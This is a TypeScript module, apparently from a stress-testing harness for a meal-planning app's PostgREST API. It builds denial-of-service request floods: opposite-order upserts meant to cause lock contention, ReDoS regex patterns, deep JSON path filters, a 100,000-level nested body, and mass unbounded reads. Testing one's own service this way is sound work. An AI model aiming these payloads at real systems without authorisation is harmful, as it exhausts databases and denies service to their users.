import type { Asked } from './connection.ts';
import type { Flood } from './flood.ts';
import type { AttackMember } from './members.ts';

const upsert = 'resolution=merge-duplicates';

const tickUpsert = (body: string): Asked => ({
  method: 'POST',
  path: '/rest/v1/shopping_ticks?on_conflict=user_id,item',
  prefer: upsert,
  body,
});

/** Ticks of so many foods in one body, in this order and in the opposite one. */
function tickBodies({ id }: AttackMember, count: number): readonly [Asked, Asked] {
  const rows = Array.from({ length: count }, (_, index) => ({
    user_id: id,
    item: `food-${index}`,
    ticked: true,
  }));
  return [tickUpsert(JSON.stringify(rows)), tickUpsert(JSON.stringify(rows.toReversed()))];
}

/** A hundred steps into the largest plans that may be stored: seconds of the database's time. */
const deepSteps = Array.from({ length: 100 }, (_, day) => `details->days->${day}->>gram=neq.x`);

/** A pattern that PostgreSQL tries in every way in which a text can be cut. */
const backReference = '(.*).*(.*)\\2.*\\1zz';
/** The same without a reference: none may run longer than a costly query has. */
const slowPatterns = ['(((p|a)*)*)*zz', '(.*)(.*)(.*)(.*)(.*)zz', '(a?){60}a{60}zz'];

const ofPlans = (query: string): Asked => ({
  method: 'GET',
  path: `/rest/v1/meal_plans?select=week&${query}`,
});
const matching = (pattern: string): Asked =>
  ofPlans(`content=match.${encodeURIComponent(pattern)}`);

/** What makes the requests of one member wait for each other or for the processor, while each holds a connection. */
export async function lockFloods(_url: string, attacker: AttackMember): Promise<readonly Flood[]> {
  const { token } = attacker;
  const [two, twoBack] = tickBodies(attacker, 2);
  const [many, manyBack] = tickBodies(attacker, 200);
  const steps = [ofPlans(deepSteps.join('&'))];
  return [
    { name: '2 rows, opposite orders', token, connections: 20, requests: [two, twoBack] },
    { name: '2 rows, opposite orders', token, connections: 60, requests: [two, twoBack] },
    { name: '2 rows, one order', token, connections: 60, requests: [two] },
    { name: '200 rows, opposite orders', token, connections: 20, requests: [many, manyBack] },
    { name: '200 rows, one order', token, connections: 60, requests: [many] },
    { name: 'slow steps into JSON', token, connections: 2, requests: steps },
    { name: 'slow steps into JSON', token, connections: 12, requests: steps },
    {
      name: 'pattern with back references',
      token,
      connections: 12,
      requests: [matching(backReference)],
    },
  ];
}

/** The largest plans that may be stored, asked for without end: the database, the processor and the memory at once. */
export async function readFloods(_url: string, { token }: AttackMember): Promise<readonly Flood[]> {
  const all: Asked = { method: 'GET', path: '/rest/v1/meal_plans?select=*' };
  const name: Asked = { method: 'GET', path: '/rest/v1/profiles?select=full_name' };
  return [
    { name: 'the largest plans', token, connections: 60, requests: [all] },
    { name: 'the largest plans', token, connections: 300, requests: [all] },
    {
      name: 'the same, never fetched',
      token,
      connections: 500,
      requests: [all],
      unfetched: true,
    },
    { name: 'small reads', token, connections: 60, requests: [name] },
  ];
}

const nesting = 100_000;

/** What once was answered with a fault of the server. */
export async function faultFloods(
  _url: string,
  { id, token }: AttackMember,
): Promise<readonly Flood[]> {
  const deep = `{"details":${'['.repeat(nesting)}${']'.repeat(nesting)},"user_id":"${id}","week":1}`;
  return [
    {
      name: `JSON nested ${nesting} deep`,
      token,
      connections: 12,
      requests: [{ method: 'POST', path: '/rest/v1/meal_plans', prefer: upsert, body: deep }],
    },
    { name: 'slow patterns', token, connections: 12, requests: slowPatterns.map(matching) },
  ];
}
